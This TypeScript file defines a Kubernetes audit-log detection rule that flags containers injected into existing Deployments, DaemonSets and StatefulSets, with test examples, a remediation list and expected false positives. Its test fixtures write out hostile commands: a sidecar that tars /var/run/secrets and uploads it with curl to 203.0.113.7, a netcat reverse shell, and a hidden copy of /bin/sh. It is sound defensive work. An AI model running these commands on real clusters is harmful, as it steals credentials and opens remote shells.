import { type AuditEvent } from '../../../kubernetes/auditEvent';
import { asObject, asString, getPath, type JsonObject, objectsAt } from '../../../kubernetes/jsonValues';
import { isJsonPatch } from '../../../kubernetes/patchDocuments';
import { type ContainerView, ContainerKind, objectName, writtenObject } from '../../../kubernetes/workloads';
import { type AlertEntity, EntityType } from '../../entities';
import { auditEvent, container, controllerPodEvent, workloadObject, workloadPatchEvent } from '../../exampleEvents';
import { isDryRun } from '../../predicates/dryRun';
import { isSystemRequest } from '../../predicates/identities';
import { commandLineOf, imagesOf } from '../../predicates/podSecurity';
import { apiGroupOf, isMainResource, isResource, namespaceOf, succeeded } from '../../predicates/requests';
import { redactText } from '../../redaction';
import { containerEntities, requestEntities } from '../../requestEntities';
import { defineRule, Intent, Severity } from '../../rule';

/** The long-running controllers whose pod template a sidecar is added to (CronJobs have their own rule; Job templates are immutable). */
const TEMPLATE_RESOURCES: ReadonlySet<string> = new Set(['deployments', 'daemonsets', 'statefulsets']);
const CHANGE_VERBS: ReadonlySet<string> = new Set(['update', 'patch']);
const LAST_APPLIED = 'kubectl.kubernetes.io/last-applied-configuration';

type ContainerList = 'containers' | 'initContainers';
const CONTAINER_LISTS: readonly ContainerList[] = ['containers', 'initContainers'];
const KIND_OF_LIST: Readonly<Record<ContainerList, ContainerKind>> = { containers: ContainerKind.container, initContainers: ContainerKind.initContainer };

/** A JSON-patch `add` of one element to a container list of the template: `/spec/template/spec/containers/-` or `/.../containers/<n>` (inserts). */
const JSON_PATCH_ADD_PATH = /^\/spec\/template\/spec\/(containers|initContainers)\/(-|\d+)$/;

const Signal = {
  jsonPatchAdd: 'JSON patch adds a container to the pod template',
  undeclared: 'container missing from the kubectl last-applied-configuration',
} as const;
type Signal = (typeof Signal)[keyof typeof Signal];

interface InjectedContainer {
  view: ContainerView;
  signal: Signal;
}

function viewOf(list: ContainerList, spec: JsonObject): ContainerView {
  return { kind: KIND_OF_LIST[list], name: asString(spec.name) ?? '', image: asString(spec.image), spec };
}

/** Signal 1: the containers a JSON patch appends or inserts into the template's container lists. */
function jsonPatchAdditions(event: AuditEvent): InjectedContainer[] {
  const request = event.requestObject;
  if (!isJsonPatch(request)) return [];
  const out: InjectedContainer[] = [];
  for (const operation of request) {
    const op = asObject(operation);
    if (op?.op !== 'add') continue;
    const match = JSON_PATCH_ADD_PATH.exec(asString(op.path) ?? '');
    const value = asObject(op.value);
    if (match === null || value === undefined) continue;
    out.push({ view: viewOf(match[1] as ContainerList, value), signal: Signal.jsonPatchAdd });
  }
  return out;
}

/**
 * The whole workload as it is after the write: the server's response when it was logged (RequestResponse), else the body of
 * an update (a full object). A patch body is not the whole object.
 */
function workloadAfterWrite(event: AuditEvent): JsonObject | undefined {
  const response = asObject(event.responseObject);
  if (response !== undefined && response.kind !== 'Status' && asObject(getPath(response, 'spec', 'template')) !== undefined) return response;
  if (event.verb !== 'update') return undefined;
  const request = asObject(event.requestObject);
  return asObject(getPath(request, 'spec', 'template')) !== undefined ? request : undefined;
}

/**
 * The container names the last `kubectl apply` declared, per list; undefined when the workload has no such annotation, it is
 * not JSON, or it does not declare the template's containers (then nothing can be said).
 */
function declaredContainerNames(workload: JsonObject): Record<ContainerList, Set<string>> | undefined {
  const text = asString(getPath(workload, 'metadata', 'annotations', LAST_APPLIED));
  if (text === undefined) return undefined;
  let declared: unknown;
  try {
    declared = JSON.parse(text) as unknown;
  } catch {
    return undefined;
  }
  const templateSpec = getPath(declared, 'spec', 'template', 'spec');
  if (!Array.isArray(getPath(templateSpec, 'containers'))) return undefined;
  const namesIn = (list: ContainerList): Set<string> =>
    new Set(objectsAt(templateSpec, list).map((spec) => asString(spec.name)).filter((name): name is string => name !== undefined));
  return { containers: namesIn('containers'), initContainers: namesIn('initContainers') };
}

/** The container names the request body itself wrote (a patch names the containers it adds or changes). */
function namesWrittenByRequest(event: AuditEvent): Set<string> {
  const names = new Set<string>();
  const request = event.requestObject;
  if (isJsonPatch(request)) {
    for (const operation of request) {
      const op = asObject(operation);
      if (!(asString(op?.path) ?? '').startsWith('/spec/template/spec/')) continue;
      const values = Array.isArray(op?.value) ? op.value : [op?.value];
      for (const value of values) {
        const name = asString(asObject(value)?.name);
        if (name !== undefined) names.add(name);
      }
    }
    return names;
  }
  for (const list of CONTAINER_LISTS) {
    for (const spec of objectsAt(writtenObject(event), 'spec', 'template', 'spec', list)) {
      const name = asString(spec.name);
      if (name !== undefined) names.add(name);
    }
  }
  return names;
}

/**
 * A server-side apply: a patch whose body is a whole manifest (`apiVersion` and `kind`; strategic-merge and JSON-merge patches
 * from kubectl carry only what changes). The body is then the applier's declared configuration, and appliers other than kubectl
 * (GitOps controllers) do not update kubectl's annotation, so comparing with it would report their new containers.
 */
function isServerSideApply(event: AuditEvent): boolean {
  const body = asObject(event.requestObject);
  return event.verb === 'patch' && body !== undefined && typeof body.apiVersion === 'string' && typeof body.kind === 'string';
}

/**
 * Signal 2: containers of the written workload that its own last-applied configuration does not declare, and that the request
 * wrote (an update writes every container; a patch only those it names, so a later `kubectl set image` of the declared
 * container does not report an older sidecar again). `kubectl apply` rewrites the annotation, so its changes never show here;
 * `kubectl edit`, `kubectl patch` and API clients leave it as it was.
 */
function undeclaredContainers(event: AuditEvent): InjectedContainer[] {
  if (isServerSideApply(event)) return [];
  const workload = workloadAfterWrite(event);
  if (workload === undefined) return [];
  const declared = declaredContainerNames(workload);
  if (declared === undefined) return [];
  const written = event.verb === 'update' ? undefined : namesWrittenByRequest(event);
  const out: InjectedContainer[] = [];
  for (const list of CONTAINER_LISTS) {
    for (const spec of objectsAt(workload, 'spec', 'template', 'spec', list)) {
      const name = asString(spec.name);
      if (name === undefined || declared[list].has(name)) continue;
      if (written !== undefined && !written.has(name)) continue;
      out.push({ view: viewOf(list, spec), signal: Signal.undeclared });
    }
  }
  return out;
}

/** Every container the request injected, each once (the JSON-patch signal first). */
function injectedContainers(event: AuditEvent): InjectedContainer[] {
  const seen = new Set<string>();
  const out: InjectedContainer[] = [];
  for (const injected of [...jsonPatchAdditions(event), ...undeclaredContainers(event)]) {
    const key = `${injected.view.kind}|${injected.view.name}`;
    if (seen.has(key)) continue;
    seen.add(key);
    out.push(injected);
  }
  return out;
}

function isTemplateWrite(event: AuditEvent): boolean {
  return CHANGE_VERBS.has(event.verb) && isResource(event, TEMPLATE_RESOURCES) && isMainResource(event) && apiGroupOf(event) === 'apps';
}

// ---------------------------------------------------------------------------------------------------
// Examples.

const shop = { namespace: 'shop', name: 'web' };
const web = (image = 'contoso.azurecr.io/shop/web:1.4.2') => container({ name: 'web', image, ports: [{ containerPort: 8080 }] });
const exfiltrator = () =>
  container({
    name: 'log-forwarder',
    image: 'docker.io/attacker/tools:latest',
    command: ['sh', '-c', 'while true; do tar cz /var/run/secrets | curl -s -T - http://203.0.113.7/u; sleep 600; done'],
  });

/** The Deployment as the server returns it: the last-applied annotation declares `declared`, the template has `containers`. */
function appliedWorkload(
  resource: 'deployments' | 'daemonsets' | 'statefulsets',
  declared: Record<string, unknown>[],
  containers: Record<string, unknown>[],
  target: { namespace: string; name: string } = shop,
): Record<string, unknown> {
  const declaredObject = workloadObject(resource, { containers: declared }, target.name, target.namespace);
  const live = workloadObject(resource, { containers }, target.name, target.namespace);
  const metadata = live.metadata as Record<string, unknown>;
  return {
    ...live,
    metadata: { ...metadata, uid: '6c0f3b8e-1d2a-4e5f-9a7b-3c4d5e6f7a8b', resourceVersion: '2718990', generation: 4, annotations: { [LAST_APPLIED]: `${JSON.stringify(declaredObject)}\n` } },
  };
}

export const workloadContainerInjected = defineRule({
  id: 'workload-container-injected',
  alertType: 'K8S_WorkloadContainerInjected',
  displayName: 'Container injected into an existing workload',
  description:
    'A container was added to the pod template of an existing Deployment, DaemonSet or StatefulSet by an identity that is not ' +
    'part of the cluster. A sidecar shares the pod\'s network, volumes and service-account token and starts again with every ' +
    'pod of the workload, so attackers add one to a trusted workload to run their own code unnoticed and keep it running. ' +
    'Two signals in the request are used: a JSON patch that adds an element to the template\'s containers or initContainers ' +
    '(`/spec/template/spec/containers/-`), and a container that the workload\'s own `kubectl.kubernetes.io/last-applied-configuration` ' +
    'does not declare, written by the request (what `kubectl edit`, `kubectl patch` and API clients leave behind; `kubectl apply` ' +
    'rewrites the annotation; a server-side apply is its own declared configuration). A strategic-merge patch alone does not tell an added container from a changed one, and ' +
    '`$setElementOrder/containers` only lists the names after the patch, so neither is used without the annotation. Mesh ' +
    'injection into pods is a pod create, not a template change, and is not reported.',
  // New alert type. Medium: the change runs attacker-chosen code in every replica of a trusted workload and survives restarts.
  severity: Severity.Medium,
  intent: Intent.Persistence,
  techniques: ['T1525', 'T1610'],
  remediation: [
    'Compare the workload with its source of truth (Git, Helm chart, pipeline): `kubectl get <kind> <name> -o yaml` and `kubectl rollout history`.',
    'If the container is not expected, roll the workload back (`kubectl rollout undo`) or re-apply it from its source, then look at what the injected container did (logs, outbound connections, secrets it could read).',
    'Review and rotate the credentials of the identity that made the change, and restrict `patch`/`update` on workloads to deployment pipelines.',
  ],
  falsePositives: [
    'An operator adding a debugging or logging sidecar with `kubectl edit` or `kubectl patch` to a workload first deployed with `kubectl apply`.',
    'Development tools that rewrite workloads in place (Telepresence traffic agents in older versions, Okteto, DevSpace) under a person\'s identity.',
    'A workload once deployed with `kubectl apply` and since managed by Helm or another tool that keeps the stale last-applied annotation.',
  ],
  references: [
    'https://microsoft.github.io/Threat-Matrix-for-Kubernetes/techniques/Sidecar%20Injection/',
    'https://kubernetes.io/docs/tasks/manage-kubernetes-objects/declarative-config/#how-apply-calculates-differences-and-merges-changes',
    'https://kubernetes.io/docs/tasks/manage-kubernetes-objects/update-api-object-kubectl-patch/',
    'https://attack.mitre.org/techniques/T1525/',
  ],
  equivalents: { defender: [], falco: [], guardDuty: [], elastic: ['Kubernetes Workload Patched — Possible Sidecar Injection'] },
  resources: [...TEMPLATE_RESOURCES],
  match: (event, context) =>
    isTemplateWrite(event) && succeeded(event) && !isDryRun(event) && !isSystemRequest(event, context) && injectedContainers(event).length > 0,
  entities: (event) => {
    const injected = injectedContainers(event).map((item) => item.view);
    const processes = injected
      .map(commandLineOf)
      .filter((line) => line !== '')
      .map((line): AlertEntity => ({ type: EntityType.process, commandLine: redactText(line) }));
    return [...requestEntities(event), ...containerEntities(injected), ...processes];
  },
  details: (event) => {
    const injected = injectedContainers(event);
    return {
      workload: `${event.objectRef?.resource ?? ''}/${objectName(event) ?? ''}`,
      verb: event.verb,
      injectedContainers: injected.map((item) => `${item.view.name}${item.view.kind === ContainerKind.initContainer ? ' (init)' : ''}`).join(', '),
      images: imagesOf(injected.map((item) => item.view)).join(', '),
      signals: [...new Set(injected.map((item) => item.signal))].join('; '),
    };
  },
  dedupKey: (event) =>
    `${namespaceOf(event) ?? ''}|${event.objectRef?.resource ?? ''}/${objectName(event) ?? ''}|${injectedContainers(event)
      .map((item) => item.view.name)
      .sort()
      .join(',')}`,
  examples: [
    {
      name: 'a JSON patch appends a container to a Deployment template',
      expect: 'alert',
      event: workloadPatchEvent('deployments', shop, [{ op: 'add', path: '/spec/template/spec/containers/-', value: exfiltrator() }], {
        user: 'system:serviceaccount:shop:web',
        userAgent: 'python-requests/2.32.3',
      }),
    },
    {
      name: 'kubectl edit adds a container the last-applied configuration does not declare',
      expect: 'alert',
      event: workloadPatchEvent(
        'deployments',
        shop,
        {
          spec: {
            template: {
              spec: { '$setElementOrder/containers': [{ name: 'web' }, { name: 'log-forwarder' }], containers: [exfiltrator()] },
            },
          },
        },
        { requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-edit', responseObject: appliedWorkload('deployments', [web()], [web(), exfiltrator()]) },
      ),
    },
    {
      name: 'an update of a DaemonSet carries an undeclared container',
      expect: 'alert',
      event: auditEvent({
        verb: 'update',
        resource: 'daemonsets',
        apiGroup: 'apps',
        namespace: 'monitoring',
        name: 'node-exporter',
        userAgent: 'Go-http-client/2.0',
        requestObject: appliedWorkload(
          'daemonsets',
          [container({ name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2' })],
          [container({ name: 'node-exporter', image: 'quay.io/prometheus/node-exporter:v1.8.2' }), container({ name: 'helper', image: 'docker.io/library/alpine:3.20', command: ['sh', '-c', 'nc 203.0.113.7 4444 -e sh'] })],
          { namespace: 'monitoring', name: 'node-exporter' },
        ),
      }),
    },
    {
      name: 'a JSON patch inserts an init container into a StatefulSet template',
      expect: 'alert',
      event: workloadPatchEvent('statefulsets', { namespace: 'data', name: 'postgres' }, [
        { op: 'add', path: '/spec/template/spec/initContainers/0', value: container({ name: 'init', image: 'docker.io/attacker/init:1', command: ['sh', '-c', 'cp /bin/sh /data/.x'] }) },
      ]),
    },
    {
      name: 'kubectl apply of a new version that declares a new container',
      expect: 'none',
      event: workloadPatchEvent(
        'deployments',
        shop,
        {
          metadata: { annotations: { [LAST_APPLIED]: '(the new configuration)' } },
          spec: { template: { spec: { '$setElementOrder/containers': [{ name: 'web' }, { name: 'metrics' }], containers: [container({ name: 'metrics', image: 'contoso.azurecr.io/shop/metrics:2.0.0' })] } } },
        },
        {
          requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-client-side-apply',
          responseObject: appliedWorkload('deployments', [web(), container({ name: 'metrics', image: 'contoso.azurecr.io/shop/metrics:2.0.0' })], [web(), container({ name: 'metrics', image: 'contoso.azurecr.io/shop/metrics:2.0.0' })]),
        },
      ),
    },
    {
      name: 'Argo CD server-side applies a version with a new container to a Deployment once applied with kubectl',
      expect: 'none',
      event: workloadPatchEvent('deployments', shop, workloadObject('deployments', { containers: [web(), container({ name: 'metrics', image: 'contoso.azurecr.io/shop/metrics:2.0.0' })] }, 'web', 'shop'), {
        user: 'system:serviceaccount:argocd:argocd-application-controller',
        userAgent: 'argocd-controller/v2.13.1+af54ef8 (linux/amd64) kubernetes/$Format',
        requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=argocd-controller&force=true',
        responseObject: appliedWorkload('deployments', [web()], [web(), container({ name: 'metrics', image: 'contoso.azurecr.io/shop/metrics:2.0.0' })]),
      }),
    },
    {
      name: 'kubectl set image of the declared container of a workload that already has an older sidecar',
      expect: 'none',
      event: workloadPatchEvent(
        'deployments',
        shop,
        { spec: { template: { spec: { containers: [{ name: 'web', image: 'contoso.azurecr.io/shop/web:1.4.3' }] } } } },
        { requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-set', responseObject: appliedWorkload('deployments', [web()], [web('contoso.azurecr.io/shop/web:1.4.3'), exfiltrator()]) },
      ),
    },
    {
      name: 'a JSON patch replaces the image of an existing container',
      expect: 'none',
      event: workloadPatchEvent('deployments', shop, [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'contoso.azurecr.io/shop/web:1.4.3' }]),
    },
    {
      name: 'kubectl rollout restart',
      expect: 'none',
      event: workloadPatchEvent(
        'deployments',
        shop,
        { spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2026-11-02T10:15:00Z' } } } } },
        { requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?fieldManager=kubectl-rollout', responseObject: appliedWorkload('deployments', [web()], [web()]) },
      ),
    },
    {
      name: 'the mesh injects its proxy into a pod the ReplicaSet creates',
      expect: 'none',
      event: controllerPodEvent(
        { containers: [web(), container({ name: 'istio-proxy', image: 'docker.io/istio/proxyv2:1.23.2' })] },
        { namespace: 'shop', owner: { kind: 'ReplicaSet', name: 'web-6f7d9c8b5' } },
      ),
    },
    {
      name: 'a listed system identity appends a container',
      expect: 'none',
      event: workloadPatchEvent('deployments', { namespace: 'kube-system', name: 'coredns' }, [{ op: 'add', path: '/spec/template/spec/containers/-', value: container({ name: 'sidecar' }) }], {
        user: 'system:serviceaccount:kube-system:addon-manager',
      }),
    },
    {
      name: 'an update of a Helm-managed Deployment without a last-applied annotation',
      expect: 'none',
      event: auditEvent({
        verb: 'update',
        resource: 'deployments',
        apiGroup: 'apps',
        ...shop,
        requestObject: workloadObject('deployments', { containers: [web(), container({ name: 'metrics' })] }, 'web', 'shop'),
      }),
    },
    {
      name: 'a container-adding JSON patch that RBAC refused',
      expect: 'none',
      event: workloadPatchEvent('deployments', shop, [{ op: 'add', path: '/spec/template/spec/containers/-', value: exfiltrator() }], { code: 403 }),
    },
    {
      name: 'a server-side dry run of a container-adding JSON patch',
      expect: 'none',
      event: workloadPatchEvent('deployments', shop, [{ op: 'add', path: '/spec/template/spec/containers/-', value: exfiltrator() }], {
        requestURI: '/apis/apps/v1/namespaces/shop/deployments/web?dryRun=All',
      }),
    },
  ],
});
